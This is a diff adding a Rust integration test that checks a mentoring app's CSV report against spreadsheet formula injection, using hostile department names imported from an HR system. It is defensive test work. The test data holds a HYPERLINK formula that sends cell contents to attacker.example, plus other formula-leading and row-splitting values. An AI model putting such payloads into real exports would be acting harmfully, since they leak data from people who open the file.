@@ -935,3 +935,136 @@ async fn concurrent_writes_count_each_meeting_once() {
 async fn post_as(app: &TestApp, path: String, who: &str, body: Value) -> mentorat_tests::Reply {
     app.post_json(&path, Some(&as_(who)), &body).await
 }
+
+/// Department names come from the HRIS; in a CSV report they are data, never formulas, and
+/// none splits a row (OWASP CSV injection).
+#[tokio::test]
+async fn csv_report_cells_are_never_formulas_and_never_split_a_row() {
+    let app = spawn_app().await;
+    let hostile = [
+        "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"Détails\")",
+        "@SUM(1+1)",
+        "-2+3",
+        "+33 1 23",
+        "a\rb",
+        "Soins, bloc \"B\"",
+    ];
+    let mut rows = Vec::new();
+    for (d, dept) in hostile.iter().enumerate() {
+        for role in ["M", "E"] {
+            for n in 0..5 {
+                let id = format!("D{d}{role}{n}");
+                rows.push(
+                    json!({"external_id": id, "given_name": id, "family_name": "X",
+                                 "email": format!("{}@chu.example", id.to_lowercase()),
+                                 "department": dept}),
+                );
+            }
+        }
+    }
+    let imported = app
+        .post_json(
+            "/api/v1/people/import",
+            Some(&app.as_hris()),
+            &Value::Array(rows),
+        )
+        .await
+        .json();
+    assert_eq!(imported["created"], hostile.len() * 10, "{imported}");
+    let program = app.create_program("Rapport CSV").await["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let listed = app
+        .get("/api/v1/people?limit=200", Some(&app.as_coordinator()))
+        .await
+        .json();
+    let ids: HashMap<String, String> = listed["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| {
+            (
+                p["external_id"].as_str().unwrap().to_owned(),
+                p["id"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    for d in 0..hostile.len() {
+        for n in 0..5 {
+            let mentor = app
+                .enroll(&program, &ids[&format!("D{d}M{n}")], "mentor")
+                .await;
+            let mentee = app
+                .enroll(&program, &ids[&format!("D{d}E{n}")], "mentee")
+                .await;
+            let reply = app
+                .post_json(
+                    &format!("/api/v1/programs/{program}/pairs"),
+                    Some(&app.as_coordinator()),
+                    &json!({"mentor_enrollment_id": mentor["id"],
+                            "mentee_enrollment_id": mentee["id"]}),
+                )
+                .await;
+            assert_eq!(reply.status, 201, "{}", reply.text);
+        }
+    }
+    // R13: a report shows closed months only.
+    crate::r13::all_happened_on(&app, crate::r13::last_month(5)).await;
+    let path = format!("/api/v1/programs/{program}/report?group_by=department");
+    let report = app.get(&path, Some(&app.as_analyst())).await.json();
+    let csv = app
+        .send(
+            app.client
+                .get(app.url(&path))
+                .bearer_auth(app.as_analyst())
+                .header("accept", "text/csv"),
+        )
+        .await;
+    assert_eq!(csv.status, 200, "{}", csv.text);
+    // Read as a spreadsheet would: RFC 4180, and no bare CR or LF outside quotes.
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(csv.text.as_bytes());
+    let width = reader.headers().unwrap().len();
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(
+        records.len(),
+        report["groups"].as_array().unwrap().len() + 1,
+        "{:?}",
+        csv.text
+    );
+    for record in &records {
+        assert_eq!(record.len(), width, "{record:?}");
+        for cell in record {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    let groups: Vec<&str> = records.iter().map(|r| &r[0]).collect();
+    for dept in hostile {
+        let written = if dept.starts_with(['=', '+', '-', '@']) {
+            format!("'{dept}")
+        } else {
+            dept.to_owned()
+        };
+        assert!(
+            groups.contains(&written.as_str()),
+            "{written:?} not in {groups:?}"
+        );
+        assert_eq!(group(&report, dept)["suppressed"], false, "{report}");
+    }
+    // Outside quoted cells, lines end with CR LF only.
+    let mut quoted = false;
+    let bytes = csv.text.as_bytes();
+    for (i, b) in bytes.iter().enumerate() {
+        match b {
+            b'"' => quoted = !quoted,
+            b'\r' if !quoted => assert_eq!(bytes.get(i + 1), Some(&b'\n'), "a bare CR at {i}"),
+            b'\n' if !quoted => assert_eq!(bytes[i - 1], b'\r', "a bare LF at {i}"),
+            _ => {}
+        }
+    }
+}
